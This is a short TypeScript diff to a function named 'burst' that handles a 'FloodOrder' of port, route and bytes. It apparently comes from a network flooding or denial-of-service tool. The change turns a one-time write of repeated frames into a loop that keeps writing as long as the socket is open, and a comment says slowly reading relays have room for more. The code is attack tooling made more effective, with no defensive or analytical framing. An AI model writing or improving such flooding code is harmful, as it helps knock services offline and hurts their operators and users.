@@ -25,7 +25,11 @@ async function burst({ port, route, bytes }: FloodOrder, reconnectToken?: string
     me.socket.on("data", (chunk: Buffer) => {
       if (chunk.includes(closeFrame)) me.socket.destroy();
     });
-    me.socket.write(Buffer.alloc(perBurst * frame.length, frame));
+    // Again and again: a relay that reads slowly has room for more by then.
+    const send = () => {
+      if (!me.socket.destroyed) me.socket.write(Buffer.alloc(perBurst * frame.length, frame), send);
+    };
+    send();
   });
   return me.reconnectToken;
 }
